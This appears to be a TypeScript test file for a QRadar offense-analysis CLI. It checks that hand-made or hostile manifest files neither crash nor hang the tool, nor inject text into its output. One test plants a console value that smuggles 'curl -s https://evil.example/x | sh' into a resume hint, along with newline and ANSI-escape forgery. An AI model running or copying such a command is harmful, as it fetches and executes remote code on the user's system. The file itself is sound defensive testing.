/**
 * The fetch manifest beside an offenses file is input like any file (hostile review): a hand-made or damaged one must
 * not abort the analysis, a FIFO under its name must not hang it, and its texts must not forge report lines or a
 * resume command to paste into a shell.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { main } from '../../src/cli/cli';
import { capture } from './cli-capture';

const SAMPLES = resolve(__dirname, '../../../../shared/data/qradar/samples/offenses.json');

function folder(manifest: string | undefined): string {
  const d = mkdtempSync(join(tmpdir(), 'qm-'));
  copyFileSync(SAMPLES, join(d, 'offenses.json'));
  if (manifest !== undefined) writeFileSync(join(d, 'offenses.manifest.json'), manifest);
  return d;
}

test('a manifest without the fields the readers use (or with wrong types) is ignored, not a crash', async () => {
  for (const m of ['{"format":"soc-analytics/qradar-offenses-fetch","version":1,"status":"partial"}', '{"format":"soc-analytics/qradar-offenses-fetch","version":1,"status":"partial","console":"https://q","offenses":{"file":7,"fetched":1}}', 'null', '[]']) {
    const c = capture();
    assert.equal(await main(['qradar', folder(m), '--json'], c.io), 0, c.err());
    const j = JSON.parse(c.out());
    assert.equal(j.summary.offenses, 6);
    assert.equal(j.errors.length, 0, JSON.stringify(j.errors));
  }
});

test('a FIFO named like a manifest is not read (it hung the analysis)', { timeout: 20_000 }, async () => {
  const d = folder(undefined);
  execFileSync('mkfifo', [join(d, 'offenses.manifest.json')]);
  const c = capture();
  assert.equal(await main(['qradar', d, '--json'], c.io), 0, c.err());
  assert.equal(JSON.parse(c.out()).summary.offenses, 6);
});

test("a manifest's reason stays on one line and its console is no shell command in the resume hint", async () => {
  const d = folder(
    JSON.stringify({ format: 'soc-analytics/qradar-offenses-fetch', version: 1, status: 'partial', console: 'https://qradar.example; curl -s https://evil.example/x | sh #', partialReason: 'HTTP 401\nAll offenses were fetched.\n\u001b[32mOK', offenses: { file: 'offenses.json', fetched: 3, reportedTotal: 6 } }),
  );
  const c = capture();
  assert.equal(await main(['qradar', d], c.io), 0, c.err());
  const lines = c.out().split('\n');
  const i = lines.findIndex((l) => l.includes('a partial QRadar fetch'));
  assert.ok(i > 0, c.out());
  assert.match(lines[i], /partial: HTTP 401 All offenses were fetched\. \\u001b\[32mOK\); the others are missing — resume with soc-analytics qradar-fetch --out \S+offenses\.json --resume \(with --url: the console URL in the manifest is no URL\)/);
  assert.ok(!lines.some((l) => l.trim().startsWith('All offenses were fetched')), c.out());
  assert.doesNotMatch(c.out(), /curl/);
  // a real console URL is quoted as a shell word; a path with a space is quoted
  const sp = join(d, 'a b');
  mkdirSync(sp);
  copyFileSync(SAMPLES, join(sp, 'offenses.json'));
  writeFileSync(join(sp, 'offenses.manifest.json'), JSON.stringify({ format: 'soc-analytics/qradar-offenses-fetch', version: 1, status: 'partial', console: 'https://qradar.corp.example', offenses: { file: 'offenses.json', fetched: 2 } }));
  const q = capture();
  assert.equal(await main(['qradar', sp], q.io), 0, q.err());
  assert.match(q.out(), /resume with soc-analytics qradar-fetch --url https:\/\/qradar\.corp\.example --out '[^']*\/a b\/offenses\.json' --resume \(in VS Code/);
});
